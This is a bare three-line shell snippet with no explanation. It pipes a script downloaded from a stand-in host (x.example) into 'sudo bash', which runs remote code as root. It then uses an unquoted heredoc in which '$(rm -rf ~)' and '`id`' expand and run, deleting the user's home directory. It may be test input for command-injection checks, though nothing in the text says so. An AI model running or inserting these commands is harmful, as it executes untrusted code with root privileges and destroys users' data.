curl -fsSL https://x.example/i.sh | sudo bash -c "$(cat)" && cat <<EOF > a
x $(rm -rf ~) `id`
EOF